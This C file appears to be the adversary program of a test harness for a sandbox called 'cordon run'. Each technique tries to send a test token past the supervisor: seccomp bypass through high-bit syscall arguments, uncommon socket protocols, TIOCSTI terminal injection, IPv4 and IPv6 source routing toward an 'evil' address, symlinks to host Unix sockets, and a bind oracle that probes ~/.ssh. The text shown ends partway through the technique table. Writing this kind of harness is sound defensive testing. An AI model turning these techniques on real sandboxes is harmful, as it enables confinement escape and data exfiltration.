/* The adversary of `cordon run`: one technique per run, `adversary TECHNIQUE`,
 * each an attempt to get data out (or to get around the supervisor) that a
 * title written to leave the sandbox would make. The harness
 * (adversary_test.py) runs every technique bare first (it must work there,
 * unless the kernel lacks what it needs: a skip with the reason), then under
 * both profiles, as root and as an unprivileged user, and decides by what
 * arrived at its listeners and on its capture interface, and by the audit
 * log; never by what this program says about itself, except where the
 * evidence is local by nature (a namespace created, a second listener
 * obtained), which is printed as "evidence: ..." on stdout.
 *
 * Inputs (environment): ADV_NONCE, a fresh random token; ADV_TCP_PORT and
 * ADV_UDP_PORT, forbidden listeners on 127.0.0.1; ADV_ALLOWED_TCP_PORT and
 * ADV_ALLOWED_UDP_PORT, listeners zero-trust allows; ADV_UDPLITE_PORT, a
 * UDP-Lite listener; ADV_EVIL4 / ADV_EVIL6, addresses on the harness's
 * capture interface that nothing may reach. Each attempt's outcome goes to
 * stderr ("name: result") for the test log. Exit status 0 when the program
 * ran to its end. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/seccomp.h>
#include <linux/sock_diag.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif

static const char* token;
static const uint64_t kHigh = 1ULL << 32;

static int env_int(const char* name) {
  const char* v = getenv(name);
  return v ? atoi(v) : 0;
}

static void note(const char* what, long rc) {
  fprintf(stderr, "%s: %s\n", what, rc < 0 ? strerror(errno) : "ok");
}

static struct sockaddr_in v4(const char* ip, int port) {
  struct sockaddr_in a;
  memset(&a, 0, sizeof(a));
  a.sin_family = AF_INET;
  a.sin_port = htons((uint16_t)port);
  inet_pton(AF_INET, ip, &a.sin_addr);
  return a;
}

static struct sockaddr_in6 v6(const char* ip, int port) {
  struct sockaddr_in6 a;
  memset(&a, 0, sizeof(a));
  a.sin6_family = AF_INET6;
  a.sin6_port = htons((uint16_t)port);
  inet_pton(AF_INET6, ip, &a.sin6_addr);
  return a;
}

/* socket(2) with every argument passed as the full 64-bit register. */
static long raw_socket(uint64_t family, uint64_t type, uint64_t protocol) {
  return syscall(SYS_socket, family, type, protocol);
}

static void stream_token(long s, const char* ip, int port) {
  if (s < 0) return;
  struct sockaddr_in a = v4(ip, port);
  long rc = connect((int)s, (struct sockaddr*)&a, sizeof(a));
  note("connect", rc);
  if (rc == 0) note("send", send((int)s, token, strlen(token), MSG_NOSIGNAL));
  close((int)s);
}

/* ---- Unix sockets: names an allowed glob covers, leading elsewhere ----
 * ADV_UNIX_BUS / ADV_UNIX_DGRAM: a host service of the title's own user (its
 * session bus, say) that no glob allows; ADV_X11_DIR and ADV_RUN_DIR
 * (/run/user/UID) are directories the title may write and a glob covers;
 * ADV_SUFFIX makes each run's names new. */

static struct sockaddr_un unix_address(const char* path) {
  struct sockaddr_un a;
  memset(&a, 0, sizeof(a));
  a.sun_family = AF_UNIX;
  snprintf(a.sun_path, sizeof(a.sun_path), "%s", path);
  return a;
}

static void unix_stream_token(const char* path) {
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  struct sockaddr_un a = unix_address(path);
  long rc = connect(s, (struct sockaddr*)&a, sizeof(a));
  note(path, rc);
  if (rc == 0) note("send", send(s, token, strlen(token), MSG_NOSIGNAL));
  close(s);
}

static void planted(char* out, size_t size, const char* dir, const char* prefix) {
  snprintf(out, size, "%s/%s%s", getenv(dir), prefix, getenv("ADV_SUFFIX"));
}

static void t_unix_x11_link(void) {
  char name[256];
  planted(name, sizeof(name), "ADV_X11_DIR", "X");
  note("symlink", symlink(getenv("ADV_UNIX_BUS"), name));
  unix_stream_token(name);
}

static void t_unix_wayland_link(void) {
  /* In the title's own runtime directory: /run/user/UID/wayland-N -> the bus. */
  char name[256];
  planted(name, sizeof(name), "ADV_RUN_DIR", "wayland-");
  note("symlink", symlink(getenv("ADV_UNIX_BUS"), name));
  unix_stream_token(name);
}

static void t_unix_pulse_dirlink(void) {
  /* A directory link: /run/user/UID/pulse -> the host service's directory,
   * whose socket is named "native". */
  char name[256];
  snprintf(name, sizeof(name), "%s/pulse", getenv("ADV_RUN_DIR"));
  note("symlink", symlink(getenv("ADV_UNIX_SVC_DIR"), name));
  char path[300];
  snprintf(path, sizeof(path), "%s/native", name);
  unix_stream_token(path);
}

static void t_unix_hardlink(void) {
  char name[256];
  planted(name, sizeof(name), "ADV_X11_DIR", "X");
  note("link", link(getenv("ADV_UNIX_BUS"), name));
  unix_stream_token(name);
}

static void t_unix_dgram_link(void) {
  char name[256];
  planted(name, sizeof(name), "ADV_X11_DIR", "X");
  note("symlink", symlink(getenv("ADV_UNIX_DGRAM"), name));
  int s = socket(AF_UNIX, SOCK_DGRAM, 0);
  struct sockaddr_un a = unix_address(name);
  note("sendto", sendto(s, token, strlen(token), 0, (struct sockaddr*)&a, sizeof(a)));
  close(s);
}

static void t_unix_x11_honest(void) {
  unix_stream_token(getenv("ADV_X11_HONEST"));
}

/* A socket bound (by the supervisor, for the title) inside ~/.ssh: the
 * harness looks for it on the host. */
static void t_unix_bind_denied(void) {
  char path[256];
  snprintf(path, sizeof(path), "%s/.ssh/agent-%s", getenv("HOME"), getenv("ADV_SUFFIX"));
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  struct sockaddr_un a = unix_address(path);
  note("bind", bind(s, (struct sockaddr*)&a, sizeof(a)));
  close(s);
}

/* Which names exist in ~/.ssh, told by bind's answer: EADDRINUSE for a
 * name that exists, success for one that does not. */
static void t_unix_bind_oracle(void) {
  char present[256], absent[256];
  snprintf(present, sizeof(present), "%s/.ssh/id_ed25519", getenv("HOME"));
  snprintf(absent, sizeof(absent), "%s/.ssh/absent-%s", getenv("HOME"), getenv("ADV_SUFFIX"));
  int errors[2];
  const char* paths[2] = {present, absent};
  for (int i = 0; i < 2; ++i) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = unix_address(paths[i]);
    errors[i] = bind(s, (struct sockaddr*)&a, sizeof(a)) == 0 ? 0 : errno;
    fprintf(stderr, "bind %s: %s\n", paths[i], errors[i] ? strerror(errors[i]) : "ok");
    close(s);
  }
  if (errors[0] != errors[1]) printf("evidence: id_ed25519 exists (%s)\n", token);
}

/* ---- the supervisor's resources ---- */

/* One sendmmsg of 128 entries of 4 MiB (one buffer) to a denied address. */
static void t_mmsg_flood(void) {
  const size_t length = 4u << 20;
  char* buffer = malloc(length);
  memset(buffer, 'x', length);
  memcpy(buffer, token, strlen(token));
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in a = v4("127.0.0.1", env_int("ADV_UDP_PORT"));
  static struct mmsghdr entries[128];
  struct iovec one = {buffer, length};
  for (int i = 0; i < 128; ++i) {
    entries[i].msg_hdr.msg_name = &a;
    entries[i].msg_hdr.msg_namelen = sizeof(a);
    entries[i].msg_hdr.msg_iov = &one;
    entries[i].msg_hdr.msg_iovlen = 1;
  }
  note("sendmmsg", sendmmsg(s, entries, 128, 0));
  close(s);
  free(buffer);
}

/* 24 threads each block in a 4 MiB send on a stream nobody reads: each
 * call the supervisor performs waits holding what it copied. */
static char* stuck_buffer;
static void* stuck_send(void* arg) {
  (void)arg;
  int pair[2];
  if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0) return NULL;
  struct iovec one = {stuck_buffer, 4u << 20};
  struct msghdr m;
  memset(&m, 0, sizeof(m));
  m.msg_iov = &one;
  m.msg_iovlen = 1;
  note("sendmsg", sendmsg(pair[0], &m, MSG_NOSIGNAL));
  return NULL;
}

static void t_blocked_streams(void) {
  stuck_buffer = malloc(4u << 20);
  memset(stuck_buffer, 'y', 4u << 20);
  pthread_t threads[24];
  for (int i = 0; i < 24; ++i) pthread_create(&threads[i], NULL, stuck_send, NULL);
  sleep(4);
  printf("done\n");
  fflush(stdout);
  _exit(0);  /* the stuck threads go with the process */
}

/* A blocking Unix datagram send to a receiver that never reads (its own
 * socket, bound in $HOME) waits; another thread's call must still be
 * answered: it reaches the display socket with the token. */
static struct sockaddr_un stall_address;
static void* stall_sender(void* arg) {
  (void)arg;
  int s = socket(AF_UNIX, SOCK_DGRAM, 0);
  static char chunk[16384];
  for (int i = 0; i < 1000; ++i) {
    if (sendto(s, chunk, sizeof(chunk), 0, (struct sockaddr*)&stall_address,
               sizeof(stall_address)) < 0) {
      note("sendto", -1);
      break;
    }
  }
  return NULL;
}

static void t_dgram_stall(void) {
  char path[256];
  snprintf(path, sizeof(path), "%s/stall-%s.sock", getenv("HOME"), getenv("ADV_SUFFIX"));
  stall_address = unix_address(path);
  int receiver = socket(AF_UNIX, SOCK_DGRAM, 0);
  note("bind", bind(receiver, (struct sockaddr*)&stall_address, sizeof(stall_address)));
  pthread_t sender;
  pthread_create(&sender, NULL, stall_sender, NULL);
  sleep(1); /* the sender is blocked by now: the queue holds ~10 datagrams */
  unix_stream_token(getenv("ADV_X11_HONEST"));
  printf("honest: sent\n");
  fflush(stdout);
  unlink(path);
  _exit(0);
}

/* ---- protocols the profile does not name ---- */

static void t_mptcp(void) {
  long s = raw_socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP);
  note("socket(IPPROTO_MPTCP)", s);
  stream_token(s, "127.0.0.1", env_int("ADV_TCP_PORT"));
}

static void t_mptcp_high(void) {
  long s = raw_socket(AF_INET, SOCK_STREAM, kHigh | IPPROTO_MPTCP);
  note("socket(1<<32 | IPPROTO_MPTCP)", s);
  stream_token(s, "127.0.0.1", env_int("ADV_TCP_PORT"));
}

static void t_udplite(void) {
  long s = raw_socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE);
  note("socket(IPPROTO_UDPLITE)", s);
  if (s < 0) return;
  struct sockaddr_in a = v4("127.0.0.1", env_int("ADV_UDPLITE_PORT"));
  note("sendto", sendto((int)s, token, strlen(token), 0, (struct sockaddr*)&a, sizeof(a)));
  close((int)s);
}

/* SCTP connects through setsockopt(SCTP_SOCKOPT_CONNECTX), no connect(2):
 * the socket itself must be refused. */
static void t_sctp(void) {
  for (int type = SOCK_STREAM; type <= SOCK_SEQPACKET; type += SOCK_SEQPACKET - SOCK_STREAM) {
    long s = raw_socket(AF_INET, (uint64_t)type, IPPROTO_SCTP);
    note(type == SOCK_STREAM ? "socket(SOCK_STREAM, IPPROTO_SCTP)"
                             : "socket(SOCK_SEQPACKET, IPPROTO_SCTP)",
         s);
    if (s < 0) continue;
    struct sockaddr_in a = v4("127.0.0.1", env_int("ADV_TCP_PORT"));
    /* SCTP_SOCKOPT_CONNECTX = 110 at SOL_SCTP = 132 */
    note("setsockopt(SCTP_SOCKOPT_CONNECTX)", setsockopt((int)s, 132, 110, &a, sizeof(a)));
    close((int)s);
  }
}

static void t_dccp(void) {
  long s = raw_socket(AF_INET, SOCK_DCCP, IPPROTO_DCCP);
  note("socket(SOCK_DCCP)", s);
  stream_token(s, "127.0.0.1", env_int("ADV_TCP_PORT"));
}

/* The report's case: NETLINK_SOCK_DIAG with the protocol's upper half set,
 * then a dump of the TCP listeners, which names the harness's. */
static void t_diag_high(void) {
  long s = raw_socket(AF_NETLINK, SOCK_RAW, kHigh | NETLINK_SOCK_DIAG);
  note("socket(AF_NETLINK, SOCK_RAW, 1<<32 | NETLINK_SOCK_DIAG)", s);
  if (s < 0) return;
  struct {
    struct nlmsghdr h;
    struct inet_diag_req_v2 r;
  } req;
  memset(&req, 0, sizeof(req));
  req.h.nlmsg_len = sizeof(req);
  req.h.nlmsg_type = SOCK_DIAG_BY_FAMILY;
  req.h.nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP;
  req.r.sdiag_family = AF_INET;
  req.r.sdiag_protocol = IPPROTO_TCP;
  req.r.idiag_states = 1 << 10; /* TCP_LISTEN */
  if (send((int)s, &req, sizeof(req), 0) < 0) {
    note("diag send", -1);
    close((int)s);
    return;
  }
  int want = env_int("ADV_TCP_PORT");
  int listed = 0, found = 0;
  static char buffer[65536];
  for (;;) {
    ssize_t n = recv((int)s, buffer, sizeof(buffer), 0);
    if (n <= 0) break;
    int done = 0;
    for (struct nlmsghdr* h = (struct nlmsghdr*)buffer; NLMSG_OK(h, (size_t)n);
         h = NLMSG_NEXT(h, n)) {
      if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR) {
        done = 1;
        break;
      }
      struct inet_diag_msg* m = NLMSG_DATA(h);
      ++listed;
      if (ntohs(m->id.idiag_sport) == want) found = 1;
    }
    if (done) break;
  }
  fprintf(stderr, "diag: %d listeners listed\n", listed);
  if (found) printf("evidence: the dump listed the host's listener on port %d\n", want);
  close((int)s);
}

/* ---- a second seccomp listener: the title answers its own notifications ---- */

static int second_listener = -1;
static void* answer_own(void* arg) {
  (void)arg;
  for (;;) {
    struct seccomp_notif n;
    memset(&n, 0, sizeof(n));
    if (ioctl(second_listener, SECCOMP_IOCTL_NOTIF_RECV, &n) != 0) {
      if (errno == EINTR) continue;
      return NULL;
    }
    struct seccomp_notif_resp r;
    memset(&r, 0, sizeof(r));
    r.id = n.id;
    r.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
    ioctl(second_listener, SECCOMP_IOCTL_NOTIF_SEND, &r);
  }
}

static void t_seccomp_high(void) {
  /* Notify connect(2) to a listener of our own, which lets it continue. */
  struct sock_filter code[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog prog = {sizeof(code) / sizeof(code[0]), code};
  prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
  long fd = syscall(SYS_seccomp, kHigh | SECCOMP_SET_MODE_FILTER,
                    kHigh | SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
  note("seccomp(1<<32 | SECCOMP_SET_MODE_FILTER, NEW_LISTENER)", fd);
  if (fd < 0) return;
  printf("evidence: a second seccomp listener (fd %ld)\n", fd);
  fflush(stdout);
  second_listener = (int)fd;
  pthread_t t;
  pthread_create(&t, NULL, answer_own, NULL);
  stream_token(socket(AF_INET, SOCK_STREAM, 0), "127.0.0.1", env_int("ADV_TCP_PORT"));
}

/* ---- namespaces through clone's flags with the upper half set ---- */

static void t_clone_high(void) {
  long pid = syscall(SYS_clone, kHigh | CLONE_NEWUSER | CLONE_NEWNET | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) {
    printf("evidence: a child in a new user and network namespace\n");
    fflush(stdout);
    _exit(0);
  }
  note("clone(1<<32 | CLONE_NEWUSER | CLONE_NEWNET)", pid);
  if (pid > 0) waitpid((pid_t)pid, NULL, 0);
}

/* ---- typing into the terminal cordon was started from ---- */

static void tiocsti(uint64_t command) {
  char line[128];
  snprintf(line, sizeof(line), "echo %s\n", token);
  long done = 0;
  for (const char* c = line; *c; ++c) {
    if (syscall(SYS_ioctl, 0, command, c) != 0) {
      done = -1;
      break;
    }
  }
  note(command == TIOCSTI ? "ioctl(TIOCSTI)" : "ioctl(1<<32 | TIOCSTI)", done);
}
static void t_tiocsti(void) {
  tiocsti(TIOCSTI);
}
static void t_tiocsti_high(void) {
  tiocsti(kHigh | TIOCSTI);
}

/* ---- rerouting: options that send an allowed-looking packet elsewhere ---- */

/* IPv4 loose source route through ADV_EVIL4: the kernel sends the packet to
 * the first hop. */
static size_t lsrr_option(unsigned char* opt) {
  struct in_addr hop;
  inet_pton(AF_INET, getenv("ADV_EVIL4") ? getenv("ADV_EVIL4") : "0.0.0.0", &hop);
  opt[0] = IPOPT_NOP;
  opt[1] = IPOPT_LSRR;
  opt[2] = 7; /* type, length, pointer, one address */
  opt[3] = 4;
  memcpy(opt + 4, &hop, 4);
  return 8;
}

static void udp_to_allowed(int s, struct msghdr* with_control) {
  struct sockaddr_in a = v4("127.0.0.1", env_int("ADV_ALLOWED_UDP_PORT"));
  struct iovec iov = {(void*)token, strlen(token)};
  struct msghdr m;
  if (with_control) {
    m = *with_control;
  } else {
    memset(&m, 0, sizeof(m));
  }
  m.msg_name = &a;
  m.msg_namelen = sizeof(a);
  m.msg_iov = &iov;
  m.msg_iovlen = 1;
  note("sendmsg to the allowed port", sendmsg(s, &m, 0));
}

static void t_lsrr(int high) {
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  unsigned char opt[40];
  size_t len = lsrr_option(opt);
  long rc = syscall(SYS_setsockopt, s, (uint64_t)SOL_IP | (high ? kHigh : 0),
                    (uint64_t)IP_OPTIONS | (high ? kHigh : 0), opt, len);
  note(high ? "setsockopt(1<<32 | IP_OPTIONS, LSRR)" : "setsockopt(IP_OPTIONS, LSRR)", rc);
  udp_to_allowed(s, NULL);
  close(s);
}
static void t_lsrr_plain(void) {
  t_lsrr(0);
}
static void t_lsrr_high(void) {
  t_lsrr(1);
}

static void send_with_cmsg(int family, int level, int type, const void* data, size_t len) {
  int s = socket(family, SOCK_DGRAM, 0);
  union {
    char buf[CMSG_SPACE(256)];
    struct cmsghdr align;
  } control;
  memset(&control, 0, sizeof(control));
  struct msghdr m;
  memset(&m, 0, sizeof(m));
  m.msg_control = control.buf;
  m.msg_controllen = CMSG_SPACE(len);
  struct cmsghdr* c = CMSG_FIRSTHDR(&m);
  c->cmsg_level = level;
  c->cmsg_type = type;
  c->cmsg_len = CMSG_LEN(len);
  memcpy(CMSG_DATA(c), data, len);
  if (family == AF_INET) {
    udp_to_allowed(s, &m);
  } else {
    struct sockaddr_in6 a = v6("::1", env_int("ADV_ALLOWED_UDP6_PORT"));
    struct iovec iov = {(void*)token, strlen(token)};
    m.msg_name = &a;
    m.msg_namelen = sizeof(a);
    m.msg_iov = &iov;
    m.msg_iovlen = 1;
    note("sendmsg to the allowed [::1] port", sendmsg(s, &m, 0));
  }
  close(s);
}

/* The control-message form of a source route (Linux reads IP_RETOPTS there;
 * an IP_OPTIONS control message is refused by the kernel itself). */
static void t_retopts_cmsg(void) {
  unsigned char opt[40];
  send_with_cmsg(AF_INET, SOL_IP, IP_RETOPTS, opt, lsrr_option(opt));
}

/* IPv6 segment routing header (type 4): the packet goes to the segment
 * left to visit, ADV_EVIL6, before the allowed [::1]. No privilege needed. */
static size_t srh(unsigned char* out) {
  memset(out, 0, 40);
  out[0] = IPPROTO_UDP; /* next header: patched by the kernel */
  out[1] = 4;           /* header length in 8-byte units, beyond the first 8 */
  out[2] = 4;           /* type 4: segment routing */
  out[3] = 1;           /* segments left */
  out[4] = 1;           /* last entry */
  inet_pton(AF_INET6, "::1", out + 8);
  inet_pton(AF_INET6, getenv("ADV_EVIL6") ? getenv("ADV_EVIL6") : "::", out + 24);
  return 40;
}

static void t_rthdr(void) {
  int s = socket(AF_INET6, SOCK_DGRAM, 0);
  unsigned char h[40];
  note("setsockopt(IPV6_RTHDR, segment routing)",
       setsockopt(s, SOL_IPV6, IPV6_RTHDR, h, (socklen_t)srh(h)));
  struct sockaddr_in6 a = v6("::1", env_int("ADV_ALLOWED_UDP6_PORT"));
  note("sendto [::1]", sendto(s, token, strlen(token), 0, (struct sockaddr*)&a, sizeof(a)));
  close(s);
}

/* A type 2 routing header (Mobile IPv6): the only type the kernel takes in a
 * control message or in the RFC 2292 sticky options; the packet goes to its
 * address, ADV_EVIL6. Needs a kernel with Mobile IPv6. */
static size_t rh2(unsigned char* out) {
  memset(out, 0, 24);
  out[0] = IPPROTO_UDP;
  out[1] = 2; /* header length */
  out[2] = 2; /* type 2 */
  out[3] = 1; /* segments left */
  inet_pton(AF_INET6, getenv("ADV_EVIL6") ? getenv("ADV_EVIL6") : "::", out + 8);
  return 24;
}

static void t_rthdr_cmsg(void) {
  unsigned char h[40];
  send_with_cmsg(AF_INET6, SOL_IPV6, IPV6_RTHDR, h, rh2(h));
}

/* The RFC 2292 form: sticky options as a buffer of control messages. */
static void t_pktoptions(void) {
  int s = socket(AF_INET6, SOCK_DGRAM, 0);
  unsigned char h[40];
  size_t len = rh2(h);
  union {
    char buf[CMSG_SPACE(64)];
    struct cmsghdr align;
  } control;
  memset(&control, 0, sizeof(control));
  struct cmsghdr* c = (struct cmsghdr*)control.buf;
  c->cmsg_level = SOL_IPV6;
  c->cmsg_type = IPV6_RTHDR;
  c->cmsg_len = CMSG_LEN(len);
  memcpy(CMSG_DATA(c), h, len);
  note("setsockopt(IPV6_2292PKTOPTIONS, RTHDR)",
       setsockopt(s, SOL_IPV6, IPV6_2292PKTOPTIONS, control.buf, (socklen_t)CMSG_SPACE(len)));
  struct sockaddr_in6 a = v6("::1", env_int("ADV_ALLOWED_UDP6_PORT"));
  note("sendto [::1]", sendto(s, token, strlen(token), 0, (struct sockaddr*)&a, sizeof(a)));
  close(s);
}

/* A policy-routing mark (CAP_NET_ADMIN): a packet to an allowed address
 * leaves by another route (a VPN's own mark bypasses the tunnel). The
 * harness routes marked packets through ADV_EVIL4; unmarked ones to
 * ADV_UNROUTED4 have no route at all. */
static void mark_send(int cmsg) {
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  uint32_t mark = 0x213;
  struct sockaddr_in a = v4(getenv("ADV_UNROUTED4") ? getenv("ADV_UNROUTED4") : "0.0.0.0",
                            env_int("ADV_ALLOWED_UDP_PORT"));
  struct iovec iov = {(void*)token, strlen(token)};
  union {
    char buf[CMSG_SPACE(sizeof(uint32_t))];
    struct cmsghdr align;
  } control;
  memset(&control, 0, sizeof(control));
  struct msghdr m;
  memset(&m, 0, sizeof(m));
  m.msg_name = &a;
  m.msg_namelen = sizeof(a);
  m.msg_iov = &iov;
  m.msg_iovlen = 1;
  if (cmsg) {
    m.msg_control = control.buf;
    m.msg_controllen = sizeof(control.buf);
    struct cmsghdr* c = CMSG_FIRSTHDR(&m);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SO_MARK;
    c->cmsg_len = CMSG_LEN(sizeof(mark));
    memcpy(CMSG_DATA(c), &mark, sizeof(mark));
  } else {
    note("setsockopt(SO_MARK)", setsockopt(s, SOL_SOCKET, SO_MARK, &mark, sizeof(mark)));
  }
  note("sendmsg to the allowed address", sendmsg(s, &m, 0));
  close(s);
}
static void t_so_mark(void) {
  mark_send(0);
}
static void t_so_mark_cmsg(void) {
  mark_send(1);
}

/* ---- inbound: a listener anyone who reaches the machine can connect to ---- */

/* Listens on `s`, prints "port: N" (0 when listen failed) for the harness,
 * which connects in from another address of the machine; whoever connects
 * gets the token. SO_RCVTIMEO bounds the wait (where nobody can reach it). */
static void serve(int s) {
  long rc = listen(s, 4);
  note("listen", rc);
  int port = 0;
  if (rc == 0) {
    struct sockaddr_storage a;
    socklen_t l = sizeof(a);
    getsockname(s, (struct sockaddr*)&a, &l);
    port = ntohs(a.ss_family == AF_INET6 ? ((struct sockaddr_in6*)&a)->sin6_port
                                         : ((struct sockaddr_in*)&a)->sin_port);
  }
  struct timeval tv = {2, 0};
  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  printf("port: %d\n", port);
  fflush(stdout);
  if (rc != 0) return;
  struct sockaddr_storage peer;
  socklen_t pl = sizeof(peer);
  int c = accept(s, (struct sockaddr*)&peer, &pl);
  note("accept", c);
  if (c >= 0) {
    note("send", send(c, token, strlen(token), MSG_NOSIGNAL));
    close(c);
  }
}

/* listen(2) on a socket never bound: the kernel binds it to 0.0.0.0. */
static void t_listen_unbound(void) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  serve(s);
  close(s);
}

static void t_listen_wildcard(void) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = v4("0.0.0.0", 0);
  note("bind 0.0.0.0", bind(s, (struct sockaddr*)&a, sizeof(a)));
  serve(s);
  close(s);
}

/* [::] with IPv4 mapped in: both families at once. */
static void t_listen_wildcard6(void) {
  int s = socket(AF_INET6, SOCK_STREAM, 0);
  int off = 0;
  setsockopt(s, IPPROTO_IPV6, IPV6_V6ONLY, &off, sizeof(off));
  struct sockaddr_in6 a = v6("::", 0);
  note("bind [::]", bind(s, (struct sockaddr*)&a, sizeof(a)));
  serve(s);
  close(s);
}

/* The honest case: a local server on loopback, which both profiles allow. */
static void t_listen_loopback(void) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = v4("127.0.0.1", 0);
  note("bind 127.0.0.1", bind(s, (struct sockaddr*)&a, sizeof(a)));
  serve(s);
  close(s);
}

/* ---- load: many processes and threads making network attempts at once ---- */

/* ADV_LOAD_ATTEMPTS attempts in all, ids 0..N-1, made by 16 processes of 4
 * threads: thread i (0..63) makes every id k with k % 64 == i. Each id has
 * a destination of its own, so the harness matches every audit line to one
 * attempt: round r = k / 64 picks the kind (r % 12: TCP connect, UDP
 * connect or UDP sendto; IPv4 or IPv6; denied or allowed):
 *   denied IPv4   10.214.(k>>8).(k&255) port 9000+op (no route: fails at once)
 *   denied IPv6   fd00:214::k           port 9000+op
 *   allowed IPv4  127.1.(k>>8).(k&255)  port ADV_ALLOWED_TCP_PORT or _UDP_PORT
 *                 (the harness's listeners on 0.0.0.0; the token and id sent)
 *   allowed IPv6  ::1                   port 20000+k (nothing listens there)
 * Each thread prints "thread I pid P" at its end: its process as its pid
 * namespace numbers it, as the audit line does. */
#define LOAD_PROCESSES 16
#define LOAD_THREADS 4

static int load_attempts;

static void load_one(int k) {
  const int kind = (k / (LOAD_PROCESSES * LOAD_THREADS)) % 12;
  const int op = kind % 3; /* 0 TCP connect, 1 UDP connect, 2 UDP sendto */
  const int six = (kind / 3) % 2;
  const int allowed = kind / 6;
  struct sockaddr_storage to;
  socklen_t length;
  memset(&to, 0, sizeof(to));
  char text[64];
  if (six) {
    struct sockaddr_in6* a = (struct sockaddr_in6*)&to;
    snprintf(text, sizeof(text), allowed ? "::1" : "fd00:214::%x", k);
    *a = v6(text, allowed ? 20000 + k : 9000 + op);
    length = sizeof(*a);
  } else {
    struct sockaddr_in* a = (struct sockaddr_in*)&to;
    snprintf(text, sizeof(text), "%s.%d.%d", allowed ? "127.1" : "10.214", k >> 8, k & 255);
    const int port = !allowed  ? 9000 + op
                     : op == 0 ? env_int("ADV_ALLOWED_TCP_PORT")
                               : env_int("ADV_ALLOWED_UDP_PORT");
    *a = v4(text, port);
    length = sizeof(*a);
  }
  char payload[96];
  const int n = snprintf(payload, sizeof(payload), "%s %d\n", token, k);
  int s = socket(six ? AF_INET6 : AF_INET, op == 0 ? SOCK_STREAM : SOCK_DGRAM, 0);
  if (s < 0) return;
  if (op == 2) {
    (void)sendto(s, payload, (size_t)n, 0, (struct sockaddr*)&to, length);
  } else if (connect(s, (struct sockaddr*)&to, length) == 0 && op == 0) {
    (void)send(s, payload, (size_t)n, MSG_NOSIGNAL);
  }
  close(s);
}

static void* load_thread(void* arg) {
  const int index = (int)(intptr_t)arg;
  char line[64];
  const int n = snprintf(line, sizeof(line), "thread %d pid %ld\n", index, (long)getpid());
  for (int k = index; k < load_attempts; k += LOAD_PROCESSES * LOAD_THREADS) load_one(k);
  (void)write(1, line, (size_t)n); /* one write: lines of concurrent threads stay whole */
  return NULL;
}

static void t_load(void) {
  load_attempts = env_int("ADV_LOAD_ATTEMPTS");
  fflush(stdout);
  pid_t children[LOAD_PROCESSES];
  for (int p = 0; p < LOAD_PROCESSES; ++p) {
    children[p] = fork();
    if (children[p] == 0) {
      pthread_t threads[LOAD_THREADS];
      for (int t = 0; t < LOAD_THREADS; ++t)
        pthread_create(&threads[t], NULL, load_thread, (void*)(intptr_t)(p * LOAD_THREADS + t));
      for (int t = 0; t < LOAD_THREADS; ++t) pthread_join(threads[t], NULL);
      _exit(0);
    }
  }
  int failed = 0;
  for (int p = 0; p < LOAD_PROCESSES; ++p) {
    int status = 0;
    if (children[p] < 0 || waitpid(children[p], &status, 0) < 0 || status != 0) ++failed;
  }
  fprintf(stderr, "load: %d attempts, %d processes failed\n", load_attempts, failed);
}

struct technique {
  const char* name;
  void (*run)(void);
};
static const struct technique techniques[] = {
    {"mptcp", t_mptcp},
    {"mptcp-high", t_mptcp_high},
    {"udplite", t_udplite},
    {"sctp", t_sctp},
    {"dccp", t_dccp},
    {"diag-high", t_diag_high},
    {"seccomp-high", t_seccomp_high},
    {"clone-high", t_clone_high},
    {"tiocsti", t_tiocsti},
    {"tiocsti-high", t_tiocsti_high},
    {"lsrr", t_lsrr_plain},
    {"lsrr-high", t_lsrr_high},
    {"retopts-cmsg", t_retopts_cmsg},
    {"rthdr", t_rthdr},
    {"rthdr-cmsg", t_rthdr_cmsg},
    {"pktoptions", t_pktoptions},
    {"so-mark", t_so_mark},
    {"so-mark-cmsg", t_so_mark_cmsg},
    {"listen-unbound", t_listen_unbound},
    {"listen-wildcard", t_listen_wildcard},
    {"listen-wildcard6", t_listen_wildcard6},
    {"listen-loopback", t_listen_loopback},
    {"unix-x11-link", t_unix_x11_link},
    {"unix-wayland-link", t_unix_wayland_link},
    {"unix-pulse-dirlink", t_unix_pulse_dirlink},
    {"unix-hardlink", t_unix_hardlink},
    {"unix-dgram-link", t_unix_dgram_link},
    {"unix-x11-honest", t_unix_x11_honest},
    {"unix-bind-denied", t_unix_bind_denied},
    {"unix-bind-oracle", t_unix_bind_oracle},
